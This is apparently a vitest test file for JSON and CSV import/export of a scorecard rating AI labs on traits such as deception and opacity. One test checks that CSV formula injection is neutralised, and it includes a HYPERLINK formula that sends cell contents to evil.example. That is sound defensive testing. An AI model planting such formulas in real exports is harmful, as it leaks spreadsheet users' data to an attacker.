import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { CSV_HEADER, fromCsv, fromJson, toCsv, toJson, type ImportResult } from '../../src/rubric/exchange';
import { MAX_IMPORT_LENGTH } from '../../src/rubric/types';
import {
  emptyScorecard,
  getCell,
  setConfidence,
  setLevel,
  setNote,
  setWeight,
} from '../../src/rubric/scorecard';
import type { RubricFrame, Scorecard } from '../../src/rubric/types';
import { arbitraryCard, frameAndCard } from './fixtures/arbitraries';
import { frame } from './fixtures/frame';

const HEADER_LINE = CSV_HEADER.join(',');

function sample(): Scorecard {
  let card = setLevel(emptyScorecard(), 'openai', 'opacity', 3);
  card = setConfidence(card, 'openai', 'opacity', 'medium');
  card = setNote(card, 'openai', 'opacity', 'Says "open", ships closed,\nthen explains 🙂');
  card = setLevel(card, 'meta', 'deception', 0);
  card = setWeight(card, 'power-seeking', 3);
  return setWeight(card, 'deception', 0);
}

function messageOf(result: ImportResult): string {
  if (result.ok) throw new Error('expected the import to fail');
  return result.message;
}

function lines(csv: string): string[] {
  return csv.replace(/^\uFEFF/, '').split('\r\n');
}

/** A CSV with the header and the given data rows, LF line ends, as a person might type it. */
function csvWith(...rows: string[]): string {
  return [HEADER_LINE, ...rows].join('\n');
}

describe('JSON export', () => {
  it('writes a pretty, versioned document marked as this site’s scorecard', () => {
    const json = toJson(sample(), frame, Date.UTC(2026, 0, 2));
    const document = JSON.parse(json) as Record<string, unknown>;
    expect(document).toMatchObject({
      format: 'labs-alignment-scorecard',
      schemaVersion: 1,
      exportedAt: '2026-01-02T00:00:00.000Z',
    });
    expect(json).toContain('\n  "format"');
    expect(document['card']).toMatchObject({
      cells: { openai: { opacity: { level: 3, confidence: 'medium' } } },
      weights: { 'power-seeking': { w: 3 } },
    });
  });

  it('round-trips any scorecard, notes included', () => {
    fc.assert(
      fc.property(arbitraryCard(frame), (card) => {
        expect(fromJson(toJson(card, frame), frame)).toEqual({
          mentions: expect.anything(),
          ok: true,
          card,
          unknown: [],
        });
      }),
      { numRuns: 200 },
    );
  });

  it('leaves out and reports labs and analogies the site does not know', () => {
    const wider: RubricFrame = {
      labs: [...frame.labs, { id: 'xai', key: 'xa', name: 'xAI' }],
      analogies: [...frame.analogies, { id: 'sandbagging', key: 'sb', name: 'Sandbagging' }],
    };
    let card = setLevel(sample(), 'xai', 'opacity', 4);
    card = setLevel(card, 'openai', 'sandbagging', 2);
    card = setWeight(card, 'sandbagging', 3);
    const result = fromJson(toJson(card, wider), frame);
    expect(result).toEqual({
      mentions: expect.anything(),
      ok: true,
      card: sample(),
      unknown: ['analogy:sandbagging', 'lab:xai'],
    });
  });

  it('accepts a file that starts with a byte order mark', () => {
    expect(fromJson(`\uFEFF${toJson(sample(), frame)}`, frame)).toEqual({
      mentions: expect.anything(),
      ok: true,
      card: sample(),
      unknown: [],
    });
  });

  it('rejects text that is not JSON', () => {
    expect(messageOf(fromJson('lab_id,lab\nopenai,OpenAI', frame))).toBe(
      'This file is not JSON, so it is not a scorecard exported from this site.',
    );
  });

  it('rejects JSON that is not a scorecard from this site', () => {
    for (const text of ['{"name":"package"}', '[1,2,3]', '"labs-alignment-scorecard"', 'null']) {
      expect(messageOf(fromJson(text, frame))).toBe(
        'This JSON file is not a scorecard exported from this site.',
      );
    }
  });

  it('rejects a scorecard from a newer version, saying so', () => {
    const text = JSON.stringify({ format: 'labs-alignment-scorecard', schemaVersion: 2, card: {} });
    expect(messageOf(fromJson(text, frame))).toMatch(/newer version of this site/);
  });

  it('rejects a damaged scorecard, naming the broken value', () => {
    const document = JSON.parse(toJson(sample(), frame)) as {
      card: { cells: { meta: { deception: { level: unknown } } } };
    };
    document.card.cells.meta.deception.level = 'very';
    expect(messageOf(fromJson(JSON.stringify(document), frame))).toMatch(
      /damaged.*cells\.meta\.deception\.level/,
    );
  });

  it('refuses files over the size cap', () => {
    expect(messageOf(fromJson(' '.repeat(MAX_IMPORT_LENGTH + 1), frame))).toMatch(/too large/);
  });
});

describe('CSV export', () => {
  it('has the header, one row per lab and analogy, CRLF line ends and a byte order mark', () => {
    const csv = toCsv(sample(), frame);
    expect(csv.startsWith(`\uFEFF${HEADER_LINE}\r\n`)).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(lines(csv).filter((line) => line !== '')).toHaveLength(1 + 5 * 6);
    expect(lines(csv)).toContain('meta,Meta,deception,Deception,0,0,,');
    expect(lines(csv)).toContain('anthropic,Anthropic,power-seeking,Power seeking,3,,,');
  });

  it('quotes fields with commas, quotes and line breaks, doubling the quotes', () => {
    expect(toCsv(sample(), frame)).toContain(
      'openai,OpenAI,opacity,Opacity,1,3,medium,"Says ""open"", ships closed,\nthen explains 🙂"\r\n',
    );
  });

  it('neutralises notes a spreadsheet would run as formulas', () => {
    const cases: [string, string][] = [
      ['=1+1', "'=1+1"],
      ['+SUM(A1:A9)', "'+SUM(A1:A9)"],
      ['-2+3', "'-2+3"],
      ['@SUM(1)', "'@SUM(1)"],
      [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        `"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`,
      ],
      ["'=already quoted", "''=already quoted"],
      ['plain = text', 'plain = text'],
    ];
    for (const [note, field] of cases) {
      const csv = toCsv(setNote(emptyScorecard(), 'openai', 'opacity', note), frame);
      expect(lines(csv)).toContain(`openai,OpenAI,opacity,Opacity,1,,,${field}`);
    }
  });

  it('neutralises every field, including names starting with a tab or carriage return', () => {
    const hostile: RubricFrame = {
      labs: [{ id: 'lab', key: 'lb', name: '\tTabbed' }],
      analogies: [{ id: 'analogy', key: 'an', name: '\r=CR' }],
    };
    expect(lines(toCsv(emptyScorecard(), hostile))[1]).toBe(`lab,'\tTabbed,analogy,"'\r=CR",1,,,`);
  });

  it('round-trips any scorecard over any frame, hostile notes included', () => {
    fc.assert(
      fc.property(frameAndCard, ({ frame: rubric, card }) => {
        expect(fromCsv(toCsv(card, rubric), rubric)).toEqual({
          mentions: expect.anything(),
          ok: true,
          card,
          unknown: [],
        });
      }),
      { numRuns: 300 },
    );
  });

  it('gives back formula-like notes exactly as written', () => {
    for (const note of ['=1+1', "'=1", "''+x", "'plain", '-', '@']) {
      const card = setNote(emptyScorecard(), 'openai', 'opacity', note);
      const result = fromCsv(toCsv(card, frame), frame);
      expect(result.ok && getCell(result.card, 'openai', 'opacity').note).toBe(note);
    }
  });
});

describe('CSV import', () => {
  it('accepts LF line ends, no byte order mark, missing rows and spaces around values', () => {
    const result = fromCsv(csvWith('openai,OpenAI,opacity,Opacity, 2 , 4 , High ,fine'), frame);
    let expected = setLevel(emptyScorecard(), 'openai', 'opacity', 4);
    expected = setConfidence(expected, 'openai', 'opacity', 'high');
    expected = setNote(expected, 'openai', 'opacity', 'fine');
    expect(result).toEqual({
      mentions: expect.anything(),
      ok: true,
      card: setWeight(expected, 'opacity', 2),
      unknown: [],
    });
  });

  it('reports and skips rows for labs or analogies the site does not know', () => {
    const result = fromCsv(
      csvWith(
        'xai,xAI,opacity,Opacity,1,3,,',
        'meta,Meta,sandbagging,Sandbagging,1,2,,',
        'meta,Meta,opacity,Opacity,1,1,,',
      ),
      frame,
    );
    expect(result).toEqual({
      mentions: expect.anything(),
      ok: true,
      card: setLevel(emptyScorecard(), 'meta', 'opacity', 1),
      unknown: ['lab:xai', 'analogy:sandbagging'],
    });
  });

  it('rejects a file without the scorecard header', () => {
    expect(messageOf(fromCsv('name,score\nOpenAI,3\n', frame))).toBe(
      `This file is not a scorecard CSV from this site: its first line should be ${HEADER_LINE}.`,
    );
    expect(messageOf(fromCsv('', frame))).toMatch(/first line should be/);
    expect(messageOf(fromCsv(toJson(sample(), frame), frame))).toMatch(/first line should be/);
  });

  it('explains a file saved with semicolons between columns', () => {
    expect(messageOf(fromCsv(CSV_HEADER.join(';'), frame))).toMatch(/semicolons/);
  });

  it('rejects levels, confidences and weights outside the scale, naming the row', () => {
    expect(messageOf(fromCsv(csvWith('openai,OpenAI,opacity,Opacity,1,7,,'), frame))).toBe(
      'Row 2: "7" is not a level from 0 to 4.',
    );
    expect(messageOf(fromCsv(csvWith('openai,OpenAI,opacity,Opacity,1,2.5,,'), frame))).toMatch(
      /Row 2: "2.5" is not a level/,
    );
    expect(messageOf(fromCsv(csvWith('openai,OpenAI,opacity,Opacity,1,2,sure,'), frame))).toMatch(
      /Row 2: "sure" is not a confidence/,
    );
    expect(
      messageOf(
        fromCsv(csvWith('openai,OpenAI,opacity,Opacity,1,2,,', 'meta,Meta,opacity,Opacity,9,2,,'), frame),
      ),
    ).toMatch(/Row 3: "9" is not a weight/);
  });

  it('rejects rows that disagree about an analogy’s weight', () => {
    const text = csvWith('openai,OpenAI,opacity,Opacity,1,2,,', 'meta,Meta,opacity,Opacity,3,2,,');
    expect(messageOf(fromCsv(text, frame))).toMatch(/two different weights \(1 and 3\)/);
  });

  it('rejects rows with the wrong number of columns', () => {
    expect(messageOf(fromCsv(csvWith('openai,OpenAI,opacity,Opacity,1,2'), frame))).toBe(
      'Row 2 has 6 columns; a scorecard row has 8.',
    );
  });

  it('says "1 column", not "1 columns", of a row with one', () => {
    expect(messageOf(fromCsv(csvWith('openai'), frame))).toBe('Row 2 has 1 column; a scorecard row has 8.');
  });

  it('rejects a file cut off inside a quoted note', () => {
    expect(messageOf(fromCsv(csvWith('openai,OpenAI,opacity,Opacity,1,2,,"never closed'), frame))).toMatch(
      /never closed/,
    );
  });

  it('caps notes at the maximum length', () => {
    const result = fromCsv(csvWith(`openai,OpenAI,opacity,Opacity,1,2,,${'x'.repeat(5000)}`), frame);
    expect(result.ok && getCell(result.card, 'openai', 'opacity').note?.length).toBe(280);
  });

  it('refuses files over the size cap', () => {
    expect(messageOf(fromCsv(csvWith('x'.repeat(MAX_IMPORT_LENGTH)), frame))).toMatch(/too large/);
  });

  it('never throws, whatever the file', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.string().map((rest) => `${HEADER_LINE}\n${rest}`),
          fc
            .string({ unit: fc.constantFrom(',', '"', '\n', '\r', 'a', '1', "'", '=') })
            .map((rest) => `${HEADER_LINE}\r\n${rest}`),
        ),
        (text) => {
          const result = fromCsv(text, frame);
          expect(typeof result.ok).toBe('boolean');
          expect(typeof fromJson(text, frame).ok).toBe('boolean');
        },
      ),
      { numRuns: 1000 },
    );
  });
});
